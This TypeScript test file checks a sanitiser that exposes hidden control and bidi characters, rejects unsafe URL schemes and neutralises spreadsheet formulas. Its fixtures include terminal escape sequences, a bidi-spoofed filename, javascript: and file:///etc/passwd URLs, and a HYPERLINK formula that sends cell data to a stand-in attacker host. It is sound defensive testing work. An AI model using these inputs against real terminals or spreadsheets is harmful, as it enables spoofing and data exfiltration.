/** What sinks rely on: nothing invisible gets out, real names stay as they are, and formulas come back. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isRisky, neutraliseFormula, restoreFormula, safeText, safeUrl } from '../../src/core/safe-text.js';

const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  // Code units, so that lone surrogates and their neighbours come up too.
  fc.array(fc.integer({ min: 0, max: 0xffff })).map((codes) => String.fromCharCode(...codes)),
  fc.string({
    unit: fc.constantFrom(
      '\x1b',
      '\u202e',
      '\u200d',
      '\u200c',
      '👩',
      '\ufe0f',
      'ب',
      'क',
      '\u094d',
      '\ud83d',
      '\u{e0067}',
    ),
  }),
);
const FORBIDDEN = /[\0-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\p{Surrogate}/u;

describe('safeText', () => {
  test.each<[string, string, string]>([
    ['clear screen and title', '\x1b[2J\x1b]0;pwn\x07', '^[[2J^[]0;pwn^G'],
    ['hyperlink', '\x1b]8;;http://evil.example\x07click\x1b]8;;\x07', '^[]8;;http://evil.example^Gclick^[]8;;^G'],
    ['NUL, backspace, DEL', 'a\0b\bc\x7f', 'a^@b^Hc^?'],
    ['carriage return', 'safe\rEVIL', 'safe^MEVIL'],
    ['line breaks and tabs', 'a\nb\r\nc\td', 'a b c d'],
    ['C1', 'a\x9b31mb', 'a<U+009B>31mb'],
    ['bidi override', 'abc\u202efdp.exe', 'abc<U+202E>fdp.exe'],
    ['bidi isolate', '\u2066a\u2069', '<U+2066>a<U+2069>'],
    ['line separator', 'a\u2028b', 'a<U+2028>b'],
    ['zero width', 'pay\u200bpal\ufeff', 'pay<U+200B>pal<U+FEFF>'],
    ['joiner between Latin letters', 'pay\u200cpal', 'pay<U+200C>pal'],
    ['joiner without neighbours', '\u200d', '<U+200D>'],
    ['tag letters', 'hi\u{e0068}\u{e0069}', 'hi<U+E0068><U+E0069>'],
    ['half a surrogate pair', 'a\ud83d', 'a<U+D83D>'],
    ['variation selectors as a hiding place', 'a\u{e0100}\ufe00', 'a<U+E0100><U+FE00>'],
  ])('shows %s', (_, text, shown) => {
    expect(safeText(text)).toBe(shown);
    expect(isRisky(text)).toBe(true);
  });

  test.each([
    'Vecinos de Oaxaca – ¡únete!',
    'جمعية سكان الحي',
    'ועד שכונת פלורנטין',
    'می\u200cخواهم خانه',
    'क्\u200dष समूह',
    'അവന്\u200d',
    'Tiếng Việt',
    '自由市民の会',
    '葛\u{e0100}城市',
    'Teachers 👩\u200d🏫👨🏽\u200d🌾',
    'Pride 🏳\ufe0f\u200d🌈',
    'England 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 🇲🇽 1\ufe0f\u20e3',
    'plain',
    '',
  ])('leaves %j as it is', (text) => {
    expect(safeText(text)).toBe(text);
    expect(isRisky(text)).toBe(false);
  });

  test('50,000 random texts: no control gets out, and twice is once', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const safe = safeText(text);
        return !FORBIDDEN.test(safe) && safeText(safe) === safe && isRisky(text) === (safe !== text);
      }),
      { numRuns: 50_000 },
    );
  });

  test.each(['\x1b', '\u200d', '🏴\u{e0067}', '👩\u200d', 'a', 'é'])('100 KB of %j take no time', (piece) => {
    const start = performance.now();
    safeText(piece.repeat(100_000 / piece.length));
    expect(performance.now() - start).toBeLessThan(2_500);
  });
});

test.each<[string, string | null]>([
  ['https://example.org/a?b=c', 'https://example.org/a?b=c'],
  ['HTTP://Example.org', 'http://example.org/'],
  ['https://bücher.example/ü', 'https://xn--bcher-kva.example/%C3%BC'],
  ['https://example.org/\x1b[2J', 'https://example.org/%1B[2J'],
  ['javascript:alert(1)', null],
  [' javascript:alert(1)', null],
  ['data:text/html,x', null],
  ['file:///etc/passwd', null],
  ['example.org', null],
  ['', null],
])('safeUrl(%j) → %j', (text, url) => {
  expect(safeUrl(text)).toBe(url);
});

describe('formulas', () => {
  test.each<[string, string]>([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ['@vecinos_oax', "'@vecinos_oax"],
    ['+52 951 555 0100', "'+52 951 555 0100"],
    ['-', "'-"],
    ['\t=1', "'\t=1"],
    ['\0x', "'\0x"],
    [' =1+1', "' =1+1"],
    ['＝1', "'＝1"],
    ["'=x", "''=x"],
    ["''-", "'''-"],
    ["'tis", "'tis"],
    ["'", "'"],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is written %j', (text, written) => {
    expect(neutraliseFormula(text)).toBe(written);
    expect(restoreFormula(written)).toBe(text);
  });

  test('every text comes back', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom("'", '=', '-', ' ', '\t', '＝', 'a', '\0') }),
    );
    fc.assert(
      fc.property(text, (original) => restoreFormula(neutraliseFormula(original)) === original),
      { numRuns: 10_000 },
    );
  });

  test('no written text begins like a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => !/^[=+\-@\t\r\n\0＝＋－＠]/.test(neutraliseFormula(text))),
    );
  });
});
